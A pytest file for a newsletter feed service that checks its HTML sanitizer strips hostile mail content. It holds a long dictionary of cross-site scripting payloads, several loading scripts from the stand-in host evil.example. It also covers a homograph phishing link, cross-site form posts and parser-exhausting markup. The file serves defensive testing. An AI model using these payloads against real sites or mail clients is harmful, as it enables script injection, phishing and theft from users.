"""Mail that was written to do harm: on an issue's page and in the mail beside it nothing runs, and nothing loads."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from articles import newest
from browser import Opener, Served, served
from flask.testing import FlaskClient
from playwright.sync_api import Dialog
from selectolax.lexbor import LexborHTMLParser
from webserver import Reply, serving

from feedsvc.config import load_settings, prepare_folders
from feedsvc.ingest import ingest_paths
from feedsvc.publish.original import Rules, original_of_html
from feedsvc.store import open_store
from feedsvc.web import create_app

RUN = "document.title='pwned';console.error('pwned');alert(1)"
THERE = "https://evil.example"

# Each is put between the items of a newsletter. Whatever of them runs says "pwned"; whatever loads asks evil.example.
HOSTILE: dict[str, str] = {
    "script": f"<script>{RUN}</script><script src='{THERE}/x.js'></script><ScRiPt\n>{RUN}</sCrIpT >",
    "script in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "module": f"<script type=module>import '{THERE}/m.js'</script><link rel=modulepreload href='{THERE}/m.js'>",
    "event handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><p onmouseover="{RUN}" onclick="{RUN}">over</p>',
    "odd handlers": f'<details open ontoggle="{RUN}">x</details><marquee onstart="{RUN}">x</marquee><a onfocus="{RUN}" autofocus tabindex=1>x</a>',
    "javascript:": f'<a href="javascript:{RUN}">a</a><a href=" java&#10;script:{RUN}">b</a><a href="&#1;javascript:{RUN}">c</a>',
    "vbscript and data": f"<a href='vbscript:msgbox(1)'>a</a><a href='data:text/html,<script>{RUN}</script>'>b</a>",
    "data html image": f"<img src='data:text/html,<script>{RUN}</script>'><img src='data:image/svg+xml,<svg onload=\"{RUN}\"/>'>",
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><image href="{THERE}/a.png"/><use href="{THERE}/a.svg#x"/></svg>',
    "svg animation": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>'
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "style": f"<style>@import '{THERE}/a.css';body{{background:url({THERE}/b.png)}}*{{display:none!important}}</style>",
    "style attributes": f'<p style="background:url({THERE}/c.png);width:expression({RUN});behavior:url({THERE}/d.htc)">styled</p>',
    "style escapes": f'<p style="background:u\\72l({THERE}/e.png);color:red;}}*{{background:url({THERE}/f.png)}}">escaped</p>',
    "overlay": f'<a href="{THERE}/o" style="position:fixed;inset:0;z-index:99999;opacity:.01;display:block">overlay</a>',
    "base": f'<base href="{THERE}/"><a href="relative">relative</a><img src="relative.png">',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={THERE}/r"><meta http-equiv="Content-Security-Policy" content="default-src *">',
    "form": f'<form action="{THERE}/f" method=post><input name=a autofocus onfocus="{RUN}"><button formaction="{THERE}/g">Go</button></form>',
    "form over ours": f'<input type=submit formaction="{THERE}/h" form=mend><textarea>x</textarea><select><option>y</select><isindex action={THERE}>',
    "frames": f'<iframe src="{THERE}/i"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe><frameset><frame src="{THERE}"></frameset>',
    "objects": f'<object data="{THERE}/o.swf"></object><embed src="{THERE}/e.swf"><applet code=x></applet><portal src={THERE}></portal>',
    "media": f'<video src="{THERE}/v" poster="{THERE}/p"><source src="{THERE}/s"></video><audio src="{THERE}/a" autoplay></audio>',
    "pictures": f'<img src="{THERE}/p.png" srcset="{THERE}/q.png 2x"><picture><source srcset="{THERE}/w.png"><img src="{THERE}/z.png"></picture>',
    "backgrounds": f'<table background="{THERE}/t.png"><tr><td background="{THERE}/u.png">cell</td></tr></table><body background="{THERE}/v.png">',
    "links that load": f'<link rel=stylesheet href="{THERE}/s.css"><link rel=prefetch href="{THERE}/f"><link rel=dns-prefetch href="//evil.example">',
    "ping and opener": f'<a href="https://fine.example/" ping="{THERE}/ping" target=_top rel=opener download>ping</a><area href="{THERE}/area" target=_parent>',
    "conditional comments": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![if !IE]><script>{RUN}</script><![endif]><!--><script>{RUN}</script>-->",
    "comment ends": f"<!-- --!><img src=x onerror={RUN}> --><!--><img src=x onerror={RUN}>-->",
    "processing": f"<?xml version='1.0'?><?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM '{THERE}'>]>&y;<![CDATA[<script>{RUN}</script>]]>",
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src={THERE}/t.png></template>",
    "custom elements": f'<x-y onclick="{RUN}">custom</x-y><slot name=a>slot</slot><dialog open>dialog</dialog>',
    "ids of ours": '<p id="main">main</p><a name="theme" id="theme" class="button mend">theme</a><form id=mend name=getElementById></form>',
    "huge inline image": f'<img src="data:image/png;base64,{"A" * 3_000_000}" alt="huge">',
    "homograph": '<p><a href="https://xn--80ak6aa92e.com/login"><b>Your account at apple.com needs you</b></a></p><p>Sign in at once, or it will close.</p>',
    "unclosed": "<table><tr><td><div><b><i><a href='https://fine.example/x'>",
    "quotes": '"\'`><script>//</script><img src="x` `<script>x</script>"` `>',
    "null and controls": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x00error={RUN}><a href='java\x00script:{RUN}'>n</a>",
}
# What leaves something open takes all that follows it along.
SWALLOWING = frozenset(
    ("mathml", "mutation", "script in script", "comment ends", "quotes", "unclosed", "null and controls")
)
_ALLOWED = frozenset(
    "class id dir lang href title target rel src alt width height align valign bgcolor border cellpadding cellspacing".split()
)
_ALLOWED |= frozenset("colspan rowspan nowrap color face size span start type".split())


def mail(name: str, *fragments: str) -> bytes:
    """A newsletter of five items with these fragments between them."""
    items = [
        f'<p><a href="https://fine.example/{number}"><b>Item number {number} of {name}</b></a></p>'
        f"<p>A text of item {number}, long enough to be one, in a sentence or two.</p>"
        for number in range(5)
    ]
    body = "".join(items[:2]) + "\n".join(fragments) + "".join(items[2:])
    message = EmailMessage()
    message["From"] = "Hostile Weekly <letter@hostile.example>"
    message["To"] = "robin@home.example"
    message["Subject"] = f"Hostile: {name}"
    message["Message-ID"] = f"<{name.replace(' ', '-')}@hostile.example>"
    message["Date"] = "Sun, 01 Mar 2026 08:00:00 +0000"
    message["List-Id"] = "<hostile.example>"
    message.set_content(f"<html><body>{body}</body></html>", subtype="html", cte="base64")
    return message.as_bytes()


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder with each fragment in a mail of its own, and all that can stand together in one."""
    folder = tmp_path_factory.mktemp("hostile")
    settings = load_settings(data=folder / "data", workers=1, resolve="never")
    prepare_folders(settings)
    paths = []
    mails = {name: mail(name, fragment) for name, fragment in HOSTILE.items()}
    together = sorted(HOSTILE.keys() - {"huge inline image"}, key=lambda name: name in SWALLOWING)
    mails["everything"] = mail("everything", *(f"<div>{HOSTILE[name]}</div>" for name in together))
    for number, message in enumerate(mails.values()):
        paths.append(folder / f"{number}.eml")
        paths[-1].write_bytes(message)
    with open_store(settings.database_url) as store:
        assert ingest_paths(paths, settings, store).accepted == len(mails)
    return settings.data


@pytest.fixture(scope="module")
def server(data: Path) -> Iterator[Served]:
    with served(data) as running:
        yield running


@pytest.fixture(scope="module")
def client(server: Served) -> FlaskClient:
    return create_app(server.settings, server.store).test_client()


def path_of(server: Served, name: str) -> str:
    found = newest(server.store, 5000, kinds=frozenset({"article", "sponsor", "job", "message"}))
    return next(f"/issues/{one.issue_id}" for one in found if one.issue_subject == f"Hostile: {name}")


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_it_is_left_in_the_mail(name: str) -> None:
    rules = Rules(lambda href: href if re.match(r"https?://[\w.-]+/", href) else None, lambda src: None)
    found = original_of_html(f"<p>before</p>{HOSTILE[name]}<p>after</p>", [], rules)
    assert "pwned" not in re.sub(r">[^<]*<", "><", f">{found.body}<"), "at most as words"
    tree: Any = LexborHTMLParser(found.body)
    forbidden = "script, style, svg, math, iframe, frame, object, embed, form, input, button, base, meta, link, video, audio, template, picture"
    assert tree.body.css(forbidden) == []
    for node in tree.body.css("*"):
        assert set(node.attributes) <= _ALLOWED, node.html
        for attribute in ("href", "src"):
            value = node.attributes.get(attribute) or ""
            assert value == "" or value.startswith(("https://", "data:image/png;base64,")), value
        assert all(one.startswith("feedsvc-") for one in (node.attributes.get("class") or "").split())
        assert (node.attributes.get("id") or "feedsvc-").startswith("feedsvc-")
    assert not re.search(r"url|expression|position|behavior|@|\\", found.css)
    assert found.css.count("{") == found.css.count("}")


@pytest.mark.parametrize("name", [*HOSTILE, "everything"])
def test_the_page_holds_nothing_of_it_either(client: FlaskClient, server: Served, name: str) -> None:
    path = path_of(server, name)
    answer = client.get(path)
    assert answer.status_code == 200
    page: Any = LexborHTMLParser(answer.text)
    assert [one for one in page.css("script") if not (one.attributes.get("src") or "").startswith("/static/")] == []
    assert page.css("svg, math, object, embed, base, style, [style], meta[http-equiv], main img, main video") == []
    assert [one.attributes["name"] for one in page.css("iframe")] == ["original"]
    for node in page.css("*"):
        assert not [one for one in node.attributes if one.startswith("on")], node.html
        for attribute in ("href", "src", "action", "formaction"):
            value = (node.attributes.get(attribute) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), value
    assert {one.attributes["action"].partition("/")[0] for one in page.css("form")} == {""}
    ids = [one.attributes["id"] for one in page.css("[id]")]
    assert len(ids) == len(set(ids)), "the mail gives nothing a name"
    original = client.get(f"{path}/original")
    assert original.status_code == 200
    assert "Item number 1" in original.text
    assert len(LexborHTMLParser(original.text).css("script, iframe, form, base, meta[http-equiv], link")) == 0


@pytest.mark.parametrize("name", ["everything", "mutation", "mathml", "unclosed"])
def test_nothing_runs_and_nothing_loads_in_a_browser(server: Served, opener: Opener, name: str) -> None:
    dialogs: list[str] = []
    visit = opener(server, "/status")

    def asked(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    visit.page.on("dialog", asked)
    path = path_of(server, name)
    for address in (path, "/"):
        visit.goto(address)
        visit.page.wait_for_timeout(300)
        assert visit.page.title() != "pwned"
    visit.goto(f"{path}/original")  # by itself it has no origin either
    visit.page.wait_for_timeout(300)
    assert visit.page.url.endswith("/original")
    assert dialogs == []  # and `opener` fails on errors, on requests elsewhere and on what the policy had to stop


def test_a_link_in_the_mail_opens_a_page_of_its_own(server: Served, opener: Opener) -> None:
    visit = opener(server, path_of(server, "unclosed"))
    visit.allow("fine.example")
    box = visit.page.locator("iframe[name=original]").bounding_box()
    assert box is not None
    with visit.page.context.expect_page() as opened:
        visit.page.mouse.click(box["x"] + 80, box["y"] + 44)
    assert opened.value.url.startswith(("https://fine.example/0", "chrome-error:", "about:blank", ":"))
    assert visit.page.url.startswith(server.base)


def test_a_page_of_another_site_frames_nothing_of_ours(server: Served, opener: Opener) -> None:
    visit = opener(server, "/status")
    path = path_of(server, "script")
    with serving() as web:
        visit.allow(rf"another host: {web.url}|frame|ERR_BLOCKED_BY_RESPONSE|status of 404")
        for address in ("/", path, f"{path}/original", "/newsletters/hostile-weekly"):
            web.pages["/frame"] = Reply.html(f"<iframe src='{server.base}{address}'></iframe>")
            visit.page.goto(f"{web.url}/frame")
            visit.page.wait_for_timeout(200)
            assert [frame.url for frame in visit.page.frames[1:]] == ["chrome-error://chromewebdata/"], address


def test_a_page_of_another_site_changes_nothing(server: Served, opener: Opener) -> None:
    visit = opener(server, "/status")
    visit.allow("status of 403")
    path = path_of(server, "script")
    entry = server.store.issue_articles(path.rpartition("/")[2])[0].article.id.removeprefix("urn:uuid:")
    for action in (f"{path}/mend", "/newsletters/hostile-weekly/whole", "/newsletters/hostile-weekly/reread"):
        visit.page.goto(
            f"data:text/html,<form method=post action='{server.base}{action}'><input name=article value={entry}>"
            "<input name=verdict value=sponsor><input name=whole value=1><button>Win</button></form>"
        )
        visit.page.get_by_role("button").click()
        visit.page.get_by_text("a page of another site").wait_for()
    assert server.store.corrections() == {}
    assert not server.store.whole_keys()


def test_a_link_that_looks_like_another_shows_its_host(client: FlaskClient, server: Served) -> None:
    path = path_of(server, "homograph")
    page: Any = LexborHTMLParser(client.get(path).text)
    entry = next(one for one in page.css("article") if "apple.com needs you" in one.text())
    assert "xn--80ak6aa92e.com" in entry.css_first(".meta").text()
    mail_page: Any = LexborHTMLParser(client.get(f"{path}/original").text)
    link = next(one for one in mail_page.css("a[href]") if "apple.com needs you" in one.text())
    assert link.attributes["title"] == "xn--80ak6aa92e.com"


def test_huge_pictures_are_left_out(client: FlaskClient, server: Served) -> None:
    answer = client.get(f"{path_of(server, 'huge inline image')}/original")
    assert len(answer.data) < 100_000
    assert "huge" in answer.text


@pytest.mark.parametrize(
    "markup",
    [
        "<table><tr><td>" * 10_000 + "deep",
        "<div>" * 7_000 + "deep",
        "<b><p>" * 5_000 + "deep",
        "<a href='https://a.example'>" * 20_000 + "deep",
        "<font size=1><p>" * 10_000 + "deep",
        "<p style='color:red'>x</p>" * 20_000,
        "<p style='width:" + "1" * 500_000 + "px'>x</p>",
        "<!--" * 50_000,
        "<p " + "a=b " * 100_000 + ">x</p>",
    ],
    ids=["tables", "divs", "bold paragraphs", "links", "fonts", "styles", "long style", "comments", "attributes"],
)
def test_whatever_is_sent_is_shown_in_time(markup: str) -> None:
    start = time.process_time()
    found = original_of_html(markup, [], Rules(lambda href: href, lambda src: None))
    assert time.process_time() - start < 10
    assert len(found.body) < 3_000_000
